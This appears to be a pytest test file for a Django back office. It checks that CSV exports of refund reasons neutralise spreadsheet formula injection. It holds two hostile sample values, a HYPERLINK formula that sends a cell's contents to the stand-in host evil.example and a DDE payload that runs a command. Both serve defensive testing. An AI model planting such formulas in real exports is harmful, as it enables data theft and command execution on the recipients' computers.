"""CSV exports open in finance's spreadsheet: what a client app wrote is never a formula."""

import csv
import io

import pytest

from backoffice.csv_export import csv_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'


def exported(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_is_kept_as_text(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["damaged", "a=b", "pmt_01", "", None, 100, 0])
def test_other_text_and_numbers_are_exported_as_they_are(value):
    assert csv_cell(value) == value


def test_a_refund_reason_that_is_a_formula_is_exported_as_text(finance, paid, api):
    response = api.post(
        f"/payments/{paid.id}/refunds",
        {"amount": 100, "reason": HYPERLINK},
        format="json",
        headers={"Idempotency-Key": "r"},
    )
    assert response.status_code == 201, response.json()
    header, row = exported(finance.get("/admin/refunds/refund/export.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["reason"] == "'" + HYPERLINK
    assert cells["amount_minor_units"] == "100"  # numbers stay numbers, labelled as minor units


def test_the_export_action_neutralises_formulas_too(finance, paid, api):
    api.post(
        f"/payments/{paid.id}/refunds",
        {"amount": 100, "reason": "@SUM(1+1)*cmd|' /C calc'!A0"},
        format="json",
        headers={"Idempotency-Key": "r"},
    )
    from refunds.models import Refund

    response = finance.post(
        "/admin/refunds/refund/",
        {"action": "export_csv", "_selected_action": [Refund.objects.get().pk]},
    )
    header, row = exported(response)
    assert dict(zip(header, row, strict=True))["reason"].startswith("'@SUM")
